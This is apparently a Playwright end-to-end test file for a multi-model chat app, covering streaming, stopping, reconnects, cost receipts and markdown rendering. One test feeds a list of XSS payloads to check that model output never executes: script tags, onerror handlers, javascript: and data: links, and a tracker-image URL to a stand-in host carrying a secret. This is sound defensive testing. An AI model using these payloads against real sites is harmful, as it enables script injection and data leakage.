import {
  answers,
  ask,
  newChat,
  pick,
  receipt,
  stored,
} from "./support/chat.ts";
import { expect, test } from "./support/fixtures.ts";

test("@once without a key the embedded model answers, and says what it is", async ({
  app,
  accessible,
  picture,
}) => {
  await newChat(app);
  await expect(
    app.getByText("Local demonstration model. Add a key to reach the rest."),
  ).toBeVisible();
  await pick(app, "local");
  await ask(app, "Write one sentence about the sea.");
  await expect(receipt(app)).toBeVisible({ timeout: 30_000 });
  await expect(answers(app)).toHaveCount(2);
  await expect(answers(app).last()).toContainText(/\w+/);
  await accessible(app);
  await picture("embedded");
});

test("@once a key put into .env makes its model ready, without a restart of anything", async ({
  app,
  stack,
}) => {
  stack.upstream.on("ahoy", { pieces: ["Ahoy ", "from Mistral."] });
  await newChat(app);
  await app.keyboard.press("Control+;");
  const dialog = app.getByRole("dialog", { name: "Choose a model" });
  await expect(
    dialog.getByRole("option", { name: /^mistral-large, mistral, no key/ }),
  ).toBeVisible();
  stack.env("MISTRAL_API_KEY=sk-a-new-key\n");
  await expect(
    dialog.getByRole("option", { name: /^mistral-large, mistral, ready/ }),
  ).toBeVisible({ timeout: 20_000 });
  await expect(
    app.getByText("Ready now: mistral-large.", { exact: true }),
  ).toBeVisible();
  await dialog.getByRole("option", { name: /^mistral-large,/ }).click();
  await ask(app, "ahoy");
  await expect(answers(app).last()).toContainText("Ahoy from Mistral.");
});

test("@once the receipt costs what the ledger's row costs, to the nano-dollar", async ({
  app,
  stack,
}) => {
  stack.upstream.on("what does it cost", {
    pieces: ["Not ", "much."],
    usage: { prompt: 812, completion: 391, cached: 0 },
  });
  await newChat(app);
  await pick(app, "claude-sonnet");
  await ask(app, "what does it cost");
  await expect(receipt(app)).toHaveAccessibleName(/812 in · 391 out/);
  await expect(async () => {
    expect((await stored(app, stack)).at(-1)?.receipt?.settled).toBe(true);
  }).toPass({ timeout: 20_000 });
  const last = (await stored(app, stack)).at(-1)?.receipt;
  const row = await stack.row(last?.call_id ?? "");
  expect(last?.cost_nano).toBe("8301000"); // 812 at $3 and 391 at $15 for a million
  expect(Math.round(Number(row["spend"]) * 1e9)).toBe(Number(last?.cost_nano));
  await expect(receipt(app)).toContainText("$0.0083");
});

test("an answer streams, can be stopped, keeps its text, and the provider is told", async ({
  app,
  stack,
  picture,
}) => {
  stack.upstream.on("a long story", {
    pieces: ["Once ", "upon ", "a ", "time"],
    holdAfter: 2,
  });
  await newChat(app);
  await pick(app, "claude-sonnet");
  await ask(app, "a long story");
  await expect(answers(app).last()).toContainText("Once upon");
  await picture("streaming");
  await app.getByRole("button", { name: /^Stop/ }).click();
  await expect(answers(app).last()).toContainText("You stopped it.");
  await expect(answers(app).last()).toContainText("Once upon");
  await expect(() => {
    expect(
      stack.upstream.asked.filter(({ text }) => text === "a long story").at(-1)
        ?.closedEarly,
    ).toBe(true);
  }).toPass();
  stack.upstream.release();
});

test("@once a dropped connection is resumed without a gap or a repetition", async ({
  app,
  stack,
  context,
}) => {
  const pieces = Array.from({ length: 40 }, (_, index) => `w${index} `);
  stack.upstream.on("count up", { pieces, gap: 60 });
  await newChat(app);
  await pick(app, "claude-sonnet");
  await ask(app, "count up");
  await expect(answers(app).last()).toContainText("w5 ");
  await context.setOffline(true);
  await expect(app.getByText(/Offline|Reconnecting/).first()).toBeVisible();
  await context.setOffline(false);
  await expect(receipt(app)).toBeVisible({ timeout: 20_000 });
  await expect(answers(app).last()).toContainText(pieces.join("").trim());
});

test("@once a reload in the middle of an answer shows all of it, and asks nobody twice", async ({
  app,
  stack,
}) => {
  stack.upstream.on("reload me", {
    pieces: ["first ", "second ", "third"],
    holdAfter: 1,
  });
  await newChat(app);
  await pick(app, "claude-sonnet");
  await ask(app, "reload me");
  await expect(answers(app).last()).toContainText("first");
  await app.reload();
  await expect(answers(app).last()).toContainText("first");
  stack.upstream.release();
  await expect(answers(app).last()).toContainText("first second third");
  expect(
    stack.upstream.asked.filter(({ text }) => text === "reload me"),
  ).toHaveLength(1);
});

test("@once another model answers in the same conversation and sees all of it", async ({
  app,
  stack,
}) => {
  stack.upstream.on("my name is Ada", { pieces: ["Hello Ada."] });
  stack.upstream.on("who am I", { pieces: ["You are Ada."] });
  await newChat(app);
  await pick(app, "claude-sonnet");
  await ask(app, "my name is Ada");
  await expect(answers(app).last()).toContainText("Hello Ada.");
  await pick(app, "gpt-mini");
  await ask(app, "who am I");
  await expect(answers(app).last()).toContainText("You are Ada.");
  const body = stack.upstream.asked.findLast(
    ({ text }) => text === "who am I",
  )?.body;
  expect(body?.["model"]).toBe("mini-like");
  expect(JSON.stringify(body?.["messages"])).toContain("Hello Ada.");
});

test("@once an edited question becomes a second version, and the first stays reachable", async ({
  app,
  stack,
}) => {
  stack.upstream.on("red or blue", { pieces: ["Red."] });
  stack.upstream.on("green or blue", { pieces: ["Green."] });
  await newChat(app);
  await pick(app, "claude-sonnet");
  await ask(app, "red or blue");
  await expect(answers(app).last()).toContainText("Red.");
  await answers(app).first().hover();
  await app.getByRole("button", { name: "Edit", exact: true }).first().click();
  const editor = app.getByRole("textbox", { name: /edit/i });
  await editor.fill("green or blue");
  await editor.press("Enter");
  await expect(answers(app).last()).toContainText("Green.");
  await expect(answers(app).first()).toContainText("2 of 2");
  await app
    .getByRole("button", { name: /earlier version/i })
    .first()
    .click();
  await expect(answers(app).last()).toContainText("Red.");
});

test("@once nothing that a model writes can run", async ({ app, stack, picture }) => {
  const attack = [
    "<script>window.pwned=1</script>",
    '<img src=x onerror="window.pwned=1">',
    "[click](javascript:window.pwned=1)",
    "![tracker](https://tracker.example/p.png?secret=1)",
    '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "$$\\href{javascript:window.pwned=1}{x}$$",
  ];
  stack.upstream.on("attack me", {
    pieces: [attack.join("\n\n"), "\n\nthe end"],
  });
  const outside: string[] = [];
  app.on("request", (request) => {
    if (!request.url().startsWith(stack.url)) outside.push(request.url());
  });
  await newChat(app);
  await pick(app, "claude-sonnet");
  await ask(app, "attack me");
  await expect(answers(app).last()).toContainText("the end");
  await picture("attack");
  expect(await app.evaluate(() => "pwned" in window)).toBe(false);
  expect(
    await answers(app)
      .last()
      .locator(
        "script, iframe, img[src^=http], [onerror], a[href^=javascript], a[href^=data]",
      )
      .count(),
  ).toBe(0);
  expect(
    outside.filter(
      (url) => !url.startsWith("data:") && !url.startsWith("blob:"),
    ),
  ).toEqual([]);
});

test("code is coloured and can be copied, tables and math are drawn", async ({
  app,
  stack,
  accessible,
  picture,
}) => {
  const text =
    "```python\nprint('hi')\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n$$E = mc^2$$\n\nDone.";
  stack.upstream.on("show me everything", { pieces: text.split(/(?<=\n)/) });
  await newChat(app);
  await pick(app, "claude-sonnet");
  await ask(app, "show me everything");
  const answer = answers(app).last();
  await expect(answer).toContainText("Done.");
  await expect(answer.getByRole("table")).toContainText("2");
  await expect(answer.locator("math").first()).toBeVisible();
  await expect(
    answer.locator("pre span[style], pre span[class]").first(),
  ).toBeVisible();
  await expect(
    answer.getByRole("button", { name: /copy/i }).first(),
  ).toBeVisible();
  await accessible(app);
  await picture("markdown");
});

test("@once an answer that is over has no Stop, though its receipt is still to be settled", async ({
  app,
  stack,
}) => {
  stack.upstream.on("over and out", { pieces: ["Over ", "and out."] });
  let settle = (): void => undefined;
  const held = new Promise<void>((resolve) => (settle = resolve));
  let isFirst = true;
  // The first connection ends right after the answers, as if it were lost there; the rest comes when the test says so.
  await app.route("**/api/runs/*/events**", async (route) => {
    if (!isFirst) {
      await held;
      await route.continue();
      return;
    }
    isFirst = false;
    const answer = await route.fetch();
    const events = await answer.text();
    const answered = events.indexOf("event: answered");
    expect(answered, events).toBeGreaterThan(0);
    await route.fulfill({
      response: answer,
      body: events.slice(0, events.indexOf("\n\n", answered) + 2),
    });
  });
  await newChat(app);
  await pick(app, "gpt-mini");
  await ask(app, "over and out");
  await expect(answers(app).last()).toContainText("Over and out.", {
    timeout: 20_000,
  });
  await expect(app.getByRole("button", { name: /^Stop/ })).toBeHidden();
  await expect(receipt(app)).toBeVisible();
  settle();
  await receipt(app).click();
  await expect(app.getByText("Cost from the gateway's ledger.")).toBeVisible();
  await app.unrouteAll({ behavior: "wait" });
});
